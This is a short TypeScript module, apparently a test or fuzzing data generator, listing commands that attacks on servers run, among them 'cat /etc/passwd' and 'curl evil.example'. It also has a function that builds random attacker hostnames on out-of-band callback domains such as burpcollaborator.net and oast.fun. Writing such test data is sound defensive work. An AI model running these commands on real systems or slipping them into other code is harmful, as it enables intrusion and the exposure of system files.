// What attacks on servers run, and whom they call.

import type { Picker } from './picker.ts';

export const COMMANDS: readonly string[] = [
  'id',
  'whoami',
  'ls',
  'cat /etc/passwd',
  'uname -a',
  'dir',
  'sleep 5',
  'ping 127.0.0.1',
  'touch /tmp/x',
  'calc',
  'curl evil.example',
];
/** The name of a host of an attacker. */
export function host(p: Picker): string {
  return `${p.letters(3, 12)}.${p.pick(['com', 'net', 'example', 'io', 'dnslog.cn', 'oast.fun', 'burpcollaborator.net', 'ru'])}`;
}
